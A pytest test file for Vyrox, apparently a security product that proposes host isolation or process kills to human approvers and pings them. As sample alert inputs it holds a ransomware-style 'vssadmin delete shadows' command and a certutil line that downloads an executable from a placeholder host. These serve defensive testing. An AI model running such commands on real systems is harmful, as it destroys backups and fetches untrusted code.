"""What Vyrox proposes by itself, and how it pings the approvers (contract 69, A10 and A13)."""

import logging
from collections.abc import Sequence
from typing import Any, Final

import msgspec
import pytest
import sqlalchemy as sa
from sqlalchemy import Connection

from tests.approvals.decided import Said, add_approvers
from tests.audit import events
from tests.notify.samples import SECRET
from tests.triage.stored import NOW, TENANT, judged, new
from tests.triage.test_proposal import COMPOSITE, MINER
from tests.vendor import VAULT, give_credentials
from vyrox.approvals import approvers, drills, from_triage, of_incident, pings, rows
from vyrox.approvals.deciding import decide
from vyrox.approvals.proposer import Proposer
from vyrox.approvals.proposing import Wanted, propose
from vyrox.approvals.rows import Decision, StoredProposal
from vyrox.approvals.states import DECIDE_S
from vyrox.errors import NotPossibleError, UnavailableError
from vyrox.notify import targets
from vyrox.store.database import Database
from vyrox.store.tables import notifications, proposals
from vyrox.tenants.policy import Change, change_policy, set_frozen
from vyrox.triage import life, regrouping
from vyrox.triage.incident_ids import IncidentKey
from vyrox.triage.life import Actor

SHADOWS: Final = "vssadmin delete shadows /all /quiet"
REVIEW: Final = "certutil -urlcache -f http://x/y z.exe"
FIRST: Final = IncidentKey(TENANT, 1)
TTL: Final = 600


class Site:
    """A tenant with credentials, a clock to set, and the part that proposes."""

    def __init__(self, database: Database) -> None:
        self.database = database
        self.now = NOW + 10
        self.notices = 0
        self.clock_error: Exception | None = None
        self.proposer = Proposer(
            database, self._check_clocks, lambda: self.now, TTL, [self._noticed]
        )

    def _check_clocks(self) -> None:
        if self.clock_error is not None:
            raise self.clock_error

    def _noticed(self) -> None:
        self.notices += 1

    async def run(self) -> list[StoredProposal]:
        """Run it, and return all proposals, the oldest first."""
        await self.proposer.run()
        return await self.proposals()

    async def proposals(self) -> list[StoredProposal]:
        def read(connection: Connection) -> Sequence[StoredProposal]:
            return rows.newest(connection, TENANT, 100, only_open=False)

        return list(reversed(await self.database.read(read)))

    async def states(self) -> list[str]:
        await self.proposer.run()
        return [each.state_at(self.now) for each in await self.proposals()]

    async def say(self, proposal: StoredProposal, decision: Decision) -> None:
        proof = Said(proposal.sha256, "ann", decision)
        await self.database.write(decide, TENANT, proposal.id, proof, self.now)

    async def close(self, key: IncidentKey = FIRST) -> None:
        actor = Actor("jane", self.now)
        await self.database.write(lambda c: life.close(c, key, actor, "unclear", "a test"))

    async def policy(self, propose: Any) -> None:  # noqa: ANN401
        change = Change(propose=propose, is_new=True)
        await self.database.write(change_policy, TENANT, change, self.now)

    async def notices_of(self, kind: str) -> list[dict[str, Any]]:
        query = sa.select(notifications.c.body).order_by(notifications.c.created_at)
        bodies = await self.database.read(lambda connection: connection.execute(query).scalars())
        decoded = [msgspec.json.decode(body) for body in bodies]
        return [each for each in decoded if each.get("kind") == kind]

    async def add_target(self) -> None:
        sealed = targets.seal(VAULT, TENANT, "https://hooks.example.com/", SECRET)
        shown: Any = ("hooks.example.com", "vyrox", "urgent")
        await self.database.write(targets.add_target, sealed, shown, NOW)


@pytest.fixture
async def site(database: Database) -> Site:
    await give_credentials(database, [TENANT])
    await add_approvers(database, ["ann"])
    return Site(database)


async def test_urgent_incident_is_proposed_once_by_vyrox_contract_69_a13(site: Site) -> None:
    await judged(site.database, new(1, SHADOWS, device_id="d-1"))
    [stored] = await site.run()
    proposal = stored.proposal
    assert (proposal.requested_by, proposal.action_type) == ("vyrox", "HOST_ISOLATION")
    assert (proposal.host, proposal.alert_id[:6]) == ("d-1", "alert-")
    assert (proposal.lease_s, proposal.required) == (14_400, 1)
    assert proposal.reason.startswith("acme-corp-1: live intrusion")
    assert proposal.expires_at == int(site.now) + TTL
    assert site.notices == 1
    assert [each.repeats for each in await site.run()] == [0]
    await judged(site.database, new(2, SHADOWS, device_id="d-1"))  # more of the same
    site.now += TTL + 1
    assert await site.states() == ["expired"]
    assert site.notices == 1


async def test_without_an_approver_nothing_is_proposed_contract_69(database: Database) -> None:
    await give_credentials(database, [TENANT])
    site = Site(database)
    await judged(database, new(1, SHADOWS))
    assert await site.run() == []
    await add_approvers(database, ["ann"])
    assert len(await site.run()) == 1


async def test_first_approver_brings_no_old_incidents_contract_69(database: Database) -> None:
    await give_credentials(database, [TENANT])
    site = Site(database)
    await judged(database, new(1, SHADOWS))
    await add_approvers(database, ["ann"])
    site.now += from_triage.FRESH_S
    assert await site.run() == []


async def test_policy_says_what_is_proposed_contract_69(site: Site) -> None:
    await judged(site.database, new(1, REVIEW, hostname="ws-2", device_id="d-2"))
    assert await site.run() == []
    await site.policy("none")
    await judged(site.database, new(2, SHADOWS))
    assert await site.run() == []
    await site.policy("review")
    hosts = {each.proposal.host for each in await site.run()}
    assert hosts == {"d-2", "device-1"}
    assert "policy: propose review" in [
        each["change"] for each in await events(site.database, kind="tenant.changed")
    ]


async def test_two_incidents_of_one_device_are_one_proposal_contract_69_a13(site: Site) -> None:
    await site.database.write(
        propose,
        Wanted(
            tenant_id=TENANT,
            alert_id="a",
            action_type="HOST_ISOLATION",
            host="DEVICE-1",
            requested_by="jane",
            reason="why",
        ),
        site.now,
        DECIDE_S,
    )
    await judged(site.database, new(1, SHADOWS))
    [stored] = await site.run()
    assert (stored.proposal.requested_by, stored.repeats) == ("jane", 1)
    await site.close()
    assert await site.states() == ["pending"]  # it is Jane's


async def test_rejected_is_not_proposed_again_for_the_incident_contract_69(site: Site) -> None:
    await judged(site.database, new(1, SHADOWS))
    [stored] = await site.run()
    await site.say(stored, "reject")
    await judged(site.database, new(2, SHADOWS))
    assert await site.states() == ["rejected"]
    await site.close()
    await site.run()
    await judged(site.database, new(3, SHADOWS))
    assert await site.states() == ["rejected"]


async def test_other_suggestion_supersedes_and_is_proposed_contract_69(site: Site) -> None:
    sure = {"vendor_severity": "HIGH"}
    await judged(site.database, new(1, MINER, raw_id=COMPOSITE, **sure))
    [killing] = await site.run()
    assert killing.proposal.action_type == "PROCESS_KILL"
    await judged(site.database, new(2, SHADOWS))
    site.now += 1
    stored = await site.run()
    assert [each.state_at(site.now) for each in stored] == ["superseded", "pending"]
    assert stored[1].proposal.action_type == "HOST_ISOLATION"
    [ended] = await events(site.database, kind="approval.ended")
    assert (ended["state"], ended["proposal_id"]) == ("superseded", killing.id)
    assert ended["reason"] == "Vyrox does not propose this for acme-corp-1 any more"


@pytest.mark.parametrize("by", ["close", "freeze", "policy"])
async def test_what_is_suggested_no_more_is_superseded_contract_69(site: Site, by: str) -> None:
    await judged(site.database, new(1, SHADOWS))
    [stored] = await site.run()
    if by == "close":
        await site.close()
    elif by == "freeze":
        await site.database.write(lambda c: set_frozen(c, TENANT, site.now, frozen=True))
        await judged(site.database, new(2, SHADOWS))
    else:
        await site.policy("none")
        await judged(site.database, new(2, SHADOWS))
    assert await site.states() == ["superseded"]
    assert site.notices == 2
    with pytest.raises(NotPossibleError, match="the proposal is superseded"):
        await site.say(stored, "approve")
    assert await site.states() == ["superseded"]


async def test_approved_is_not_superseded_contract_69(site: Site) -> None:
    await judged(site.database, new(1, SHADOWS))
    [stored] = await site.run()
    await site.say(stored, "approve")
    await site.close()
    assert await site.states() == ["approved"]


async def test_merged_incident_keeps_its_proposal_contract_69(site: Site) -> None:
    await judged(site.database, new(1, "whoami", hostname="ws-2", device_id="d-2"))
    await judged(site.database, new(2, SHADOWS))
    [stored] = await site.run()
    second, actor = IncidentKey(TENANT, 2), Actor("jane", site.now)
    await site.database.write(lambda c: regrouping.merge(c, FIRST, second, actor))
    assert await site.states() == ["pending"]
    assert await site.states() == ["pending"]
    await site.close()
    assert await site.states() == ["superseded"]
    assert (await site.proposals())[0].id == stored.id


async def test_failing_incident_stops_no_other_contract_69(
    site: Site, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:

    def failing(connection: Connection, key: IncidentKey, *args: Any, **more: Any) -> Wanted:  # noqa: ANN401
        if key == FIRST:
            raise LookupError
        return of_incident.wanted_of(connection, key, *args, **more)

    monkeypatch.setattr(from_triage, "wanted_of", failing)
    await judged(site.database, new(1, SHADOWS))
    await judged(site.database, new(2, SHADOWS, hostname="ws-2", device_id="d-2"))
    [stored] = await site.run()
    assert stored.proposal.host == "d-2"
    await site.run()
    assert caplog.messages.count("approval.error") == 1


async def test_nothing_is_proposed_by_a_clock_that_is_not_trusted_contract_69(site: Site) -> None:
    await judged(site.database, new(1, SHADOWS))
    site.clock_error = UnavailableError("the clock has jumped")
    with pytest.raises(UnavailableError):
        await site.run()
    site.clock_error = None
    assert len(await site.run()) == 1


async def test_approvers_are_told_once_and_reminded_once_contract_69_a13(site: Site) -> None:
    await site.add_target()
    await judged(site.database, new(1, SHADOWS, hostname="ws-1"))
    [stored] = await site.run()
    [told] = await site.notices_of("approval.proposed")
    assert told["link"] == f"/approvals/{stored.id}"
    assert told["text"].startswith("HOST_ISOLATION of ws-1, asked for by vyrox, needs ")
    site.now += TTL / 2 - 1
    await site.run()
    assert await site.notices_of("approval.reminder") == []
    site.now += 2
    await site.run()
    await site.run()
    [reminder] = await site.notices_of("approval.reminder")
    assert reminder["link"] == told["link"]
    assert len(await site.notices_of("approval.proposed")) == 1


async def test_a_drill_is_announced_as_a_drill_contract_69(site: Site) -> None:
    await site.add_target()
    await site.database.write(drills.start, TENANT, "ann", site.now)
    await site.run()
    [told] = await site.notices_of("approval.proposed")
    assert told["text"].startswith("a drill, until ")


async def test_decided_proposal_is_not_reminded_of_contract_69(site: Site) -> None:
    await site.add_target()
    await judged(site.database, new(1, SHADOWS))
    [stored] = await site.run()
    await site.say(stored, "reject")
    site.now += TTL / 2 + 1
    await site.run()
    assert await site.notices_of("approval.reminder") == []


async def test_beyond_the_limit_nobody_is_pinged_contract_69_a13(site: Site) -> None:
    await site.add_target()
    count = pings.PINGS_PER_HOUR + 3
    for number in range(count):
        host = {"hostname": f"ws-{number}", "device_id": f"d-{number}"}
        await judged(site.database, new(1 + number / 10, SHADOWS, **host))
    stored = await site.run()
    assert len(stored) == count  # shown in every list all the same
    assert len(await site.notices_of("approval.proposed")) == pings.PINGS_PER_HOUR
    site.now += TTL / 2 + 1
    await site.run()
    assert len(await site.notices_of("approval.reminder")) == pings.PINGS_PER_HOUR


async def test_changed_text_pings_nobody_and_is_logged_once_contract_69(
    site: Site, caplog: pytest.LogCaptureFixture
) -> None:
    await site.add_target()
    await judged(site.database, new(1, SHADOWS))
    await site.database.write(from_triage.consider, FIRST, site.now, TTL)
    await site.database.write(
        lambda connection: connection.execute(proposals.update().values(text=b"{}"))
    )
    caplog.set_level(logging.ERROR)
    await site.run()
    await site.run()
    assert caplog.messages.count("approval.unreadable") == 1
    assert await site.notices_of("approval.proposed") == []


async def test_person_who_leaves_ends_what_vyrox_proposes_contract_69(site: Site) -> None:
    await judged(site.database, new(1, SHADOWS))
    assert len(await site.run()) == 1
    await site.database.write(approvers.remove, TENANT, "ann", "operator", site.now)
    await judged(site.database, new(2, SHADOWS, hostname="ws-2", device_id="d-2"))
    assert len(await site.run()) == 1
